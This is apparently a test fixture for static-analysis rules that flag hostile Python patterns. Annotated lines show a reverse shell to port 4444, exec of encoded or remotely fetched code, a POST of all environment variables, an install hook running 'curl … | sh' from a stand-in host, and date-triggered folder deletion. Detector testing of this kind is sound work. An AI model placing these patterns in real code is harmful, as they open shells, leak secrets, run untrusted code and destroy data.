import base64
import json
import os
import socket
import subprocess
import zlib
from urllib.request import urlopen

import requests

# ruleid: askfirst.python.network-at-import
requests.get("http://127.0.0.1/installed", timeout=5)

line = socket.socket()
# ruleid: askfirst.python.network-at-import
line.connect(("127.0.0.1", 4444))


class Eager:
    # ruleid: askfirst.python.network-at-import
    config = urlopen("http://127.0.0.1/config").read()


# ok: askfirst.python.network-at-import
fetch = lambda url: requests.get(url, timeout=5)


def run(packed, url):
    # ruleid: askfirst.python.hidden-code
    exec(base64.b64decode(packed))
    code = zlib.decompress(bytes.fromhex(packed)).decode()
    # ruleid: askfirst.python.hidden-code
    exec(compile(code, "x", "exec"))
    # ruleid: askfirst.python.hidden-code
    exec(requests.get(url, timeout=5).text)
    # ok: askfirst.python.hidden-code
    return json.loads(base64.b64decode(packed))


def call(address):
    # ok: askfirst.python.network-at-import
    connection = socket.create_connection(address)
    # ruleid: askfirst.python.remote-shell
    os.dup2(connection.fileno(), 0)
    line = socket.socket()
    line.connect(address)
    # ruleid: askfirst.python.remote-shell
    subprocess.Popen(["/bin/sh"], stdin=line, stdout=line)
    # ok: askfirst.python.remote-shell
    subprocess.run(["cat"], stdin=subprocess.DEVNULL, check=True)


def report(url):
    # ruleid: askfirst.python.environment-sent
    requests.post(url, json=dict(os.environ), timeout=5)
    # ok: askfirst.python.environment-sent
    requests.post(url, json={"stage": os.environ["STAGE"]}, timeout=5)
    # ok: askfirst.python.environment-sent
    subprocess.run(["make"], env=dict(os.environ), check=True)


if __name__ == "__main__":
    # ok: askfirst.python.network-at-import
    requests.get("http://127.0.0.1/", timeout=5)


class Hooked(install):
    def run(self):
        # ruleid: askfirst.python.install-hook
        urllib.request.urlopen("https://stats.example/i")
        # ruleid: askfirst.python.install-hook
        subprocess.run("curl https://stats.example/i | sh", shell=True)
        # ok: askfirst.python.install-hook
        subprocess.run(["msgfmt", "a.po"])


def tidy(folder):
    # ruleid: askfirst.python.time-bomb
    if datetime.datetime.now() > datetime.datetime(2026, 5, 1):
        shutil.rmtree(folder)
    # ruleid: askfirst.python.time-bomb
    if datetime.date.today() >= datetime.date(2026, 5, 1):
        os._exit(1)
    # ok: askfirst.python.time-bomb
    if datetime.date.today() >= datetime.date(2026, 5, 1):
        print("a new year")
